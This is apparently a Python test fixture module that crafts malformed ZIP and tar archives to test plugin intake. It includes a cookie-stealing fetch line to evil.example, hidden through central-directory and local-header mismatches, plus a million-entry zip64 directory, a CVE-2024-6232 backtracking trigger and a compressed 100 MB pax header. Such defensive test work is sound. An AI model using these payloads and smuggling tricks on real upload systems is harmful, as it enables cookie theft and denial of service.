"""Hand-built archives with every header field under the test's control."""

from __future__ import annotations

import gzip
import json
import struct
import zlib
from dataclasses import dataclass, field
from typing import Any

from tests.conftest import CLEAN_JS, manifest

STORED, DEFLATED = 0, 8
UTF8 = 0x0800
DESCRIPTOR = 0x0008
TIME, DATE = 0, (2026 - 1980) << 9 | 1 << 5 | 1


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@dataclass
class Entry:
    """One member: what its local header and its central entry say, each overridable."""

    name: bytes
    content: bytes
    method: int = STORED
    flags: int = 0
    attrs: int = 0o100644 << 16
    made_by: int = 0x0314
    version: int = 20
    local_extra: bytes = b""
    central_extra: bytes = b""
    listed: bool = True  # in the central directory
    after: bytes = b""  # raw bytes between this member's data and the next header
    local: dict[str, Any] = field(default_factory=dict)
    central: dict[str, Any] = field(default_factory=dict)

    @property
    def data(self) -> bytes:
        return self.local.get("data", deflate(self.content) if self.method else self.content)

    def fields(self) -> dict[str, Any]:
        return {
            "version": self.version,
            "flags": self.flags | (UTF8 if not self.name.isascii() else 0),
            "method": self.method,
            "time": TIME,
            "date": DATE,
            "crc": zlib.crc32(self.content),
            "csize": len(self.data),
            "usize": len(self.content),
            "name": self.name,
        }


def entry(name: str, content: bytes | str, method: int = STORED, **kw: Any) -> Entry:
    body = content.encode() if isinstance(content, str) else content
    return Entry(name.encode(), body, method, **kw)


def build_zip(
    entries: list[Entry], *, prepend: bytes = b"", append: bytes = b"", comment: bytes = b""
) -> bytes:
    out = bytearray(prepend)
    centrals = []
    for e in entries:
        f = {**e.fields(), **{k: v for k, v in e.local.items() if k != "data"}}
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            f["version"],
            f["flags"],
            f["method"],
            f["time"],
            f["date"],
            f["crc"],
            f["csize"],
            f["usize"],
            len(f["name"]),
            len(e.local_extra),
        )
        out += f["name"] + e.local_extra + e.data + e.after
        if e.listed:
            centrals.append(_central(e, offset))
    cd_offset = len(out)
    for c in centrals:
        out += c
    out += struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        len(centrals),
        len(centrals),
        len(out) - cd_offset,
        cd_offset,
        len(comment),
    )
    return bytes(out + comment + append)


def _central(e: Entry, offset: int) -> bytes:
    f = {**e.fields(), "offset": offset, "made_by": e.made_by, "attrs": e.attrs, **e.central}
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            f["made_by"],
            f["version"],
            f["flags"],
            f["method"],
            f["time"],
            f["date"],
            f["crc"],
            f["csize"],
            f["usize"],
            len(f["name"]),
            len(e.central_extra),
            0,
            0,
            0,
            f["attrs"],
            f["offset"],
        )
        + f["name"]
        + e.central_extra
    )


def descriptor(e: Entry, *, signed: bool = True, **override: int) -> bytes:
    f = {**e.fields(), **override}
    sig = b"PK\x07\x08" if signed else b""
    return sig + struct.pack("<III", f["crc"], f["csize"], f["usize"])


# ---------------------------------------------------------------- tar


def tar_header(
    name: bytes,
    size: int,
    typeflag: bytes = b"0",
    *,
    magic: bytes = b"ustar\x0000",
    size_field: bytes | None = None,
    linkname: bytes = b"",
) -> bytes:
    h = bytearray(512)
    h[0 : len(name)] = name
    h[100:108] = b"0000644\x00"
    h[108:116] = b"0000000\x00"
    h[116:124] = b"0000000\x00"
    h[124:136] = size_field if size_field is not None else b"%011o\x00" % size
    h[136:148] = b"15000000000\x00"
    h[156:157] = typeflag
    h[157 : 157 + len(linkname)] = linkname
    h[257:265] = magic
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\x00 " % sum(h)
    return bytes(h)


def tar_member(name: bytes, data: bytes, typeflag: bytes = b"0", **kw: Any) -> bytes:
    return tar_header(name, len(data), typeflag, **kw) + data + bytes(-len(data) % 512)


def pax_record(key: bytes, value: bytes) -> bytes:
    body = b" " + key + b"=" + value + b"\n"
    n = len(body) + 1
    while len(str(n).encode()) + len(body) != n:
        n += 1
    return str(n).encode() + body


def tar_gz(*members: bytes, end: bytes = bytes(1024)) -> bytes:
    return gzip.compress(b"".join(members) + end, mtime=0)


# ---------------------------------------------------------------- issue 11's attacks
# Each got a cookie stealer to `pass`, crashed intake, or kept it busy for minutes.

HARMLESS = CLEAN_JS.encode()
STEALER = b";fetch('https://evil.example/c?'+document.cookie);"
PLUGIN = json.dumps(manifest()).encode()


def stealer_behind_the_directory(method: int) -> bytes:
    """bundle.js holds the stealer after the harmless code; the central directory
    describes only the harmless start, the local header the whole of it."""
    js = entry("dist/bundle.js", HARMLESS + STEALER, method)
    js.central = {"usize": len(HARMLESS), "crc": zlib.crc32(HARMLESS)}
    if method == STORED:
        js.central["csize"] = len(HARMLESS)
    return build_zip([entry("plugin.json", PLUGIN), js])


def local_entry_missing_from_directory() -> bytes:
    hidden = entry("dist/hidden.js", STEALER, listed=False)
    return build_zip([entry("plugin.json", PLUGIN), hidden, entry("dist/bundle.js", HARMLESS)])


def bad_utf8_local_name() -> bytes:
    js = entry("dist/bundle.js", HARMLESS, flags=UTF8)
    js.local = {"name": b"dist/\xff\xfendle.js"}
    return build_zip([entry("plugin.json", PLUGIN), js])


def unknown_version_needed() -> bytes:
    return build_zip([entry("plugin.json", PLUGIN, version=99), entry("dist/bundle.js", HARMLESS)])


def zip64_million_entries() -> bytes:
    """One real member and a central directory of 1,000,000 entries behind zip64 end
    records, so the plain end record's 0xFFFF count says nothing."""
    one = entry("a", b"")
    local = build_zip([one])
    cd_offset = local.index(b"PK\x01\x02")
    central = local[cd_offset : local.index(b"PK\x05\x06")]
    count = 1_000_000
    cd = central * count
    end64_pos = cd_offset + len(cd)
    end64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end64_pos, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local[:cd_offset] + cd + end64 + locator + end


def pax_digit_run(digits: int) -> bytes:
    # CVE-2024-6232: tarfile's pax regexes backtrack over long digit runs.
    pax = b"1" * digits + b" path=dist/bundle.js\n"
    return tar_gz(tar_member(b"././@PaxHeader", pax, b"x"), tar_member(b"dist/bundle.js", HARMLESS))


def huge_pax_header() -> bytes:
    """A 100 MB pax header that gzip squeezes into about 100 KB."""
    size = 100 * 1024 * 1024
    blocks = [tar_header(b"././@PaxHeader", size, b"x")]
    stream = gzip.compress(blocks[0] + bytes(size) + bytes(1024), compresslevel=9, mtime=0)
    return stream
